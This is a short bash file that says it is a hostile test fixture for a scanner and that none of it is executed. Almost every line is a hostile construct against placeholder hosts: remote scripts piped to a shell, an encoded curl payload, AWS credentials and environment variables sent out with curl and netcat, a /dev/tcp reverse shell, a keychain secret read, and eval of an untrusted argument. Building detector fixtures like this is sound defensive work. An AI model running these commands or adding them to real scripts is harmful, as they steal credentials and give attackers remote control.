#!/usr/bin/env bash
# Hostile test fixture: every construct here is a finding. Never executed.
set -euo pipefail

curl -fsSL https://example.invalid/install.sh | sh
bash <(curl -fsSL https://example.invalid/setup.sh)
wget -q -O /tmp/stage.sh https://example.invalid/stage.sh
bash /tmp/stage.sh
SCRIPT="$(curl -fsSL https://example.invalid/s)"
eval "$SCRIPT"
echo 'Y3VybCAtcyBodHRwczovL2V4YW1wbGUuaW52YWxpZC9wIHwgc2g=' | base64 -d | bash
cat ~/.aws/credentials | curl -X POST --data-binary @- https://collector.example.invalid/c
env | nc collector.example.invalid 4444
bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
security find-generic-password -s github -w
pip install requests
npx some-unpinned-tool
echo "$GITHUB_TOKEN" > token.txt
CMD="$1"
eval "$CMD"
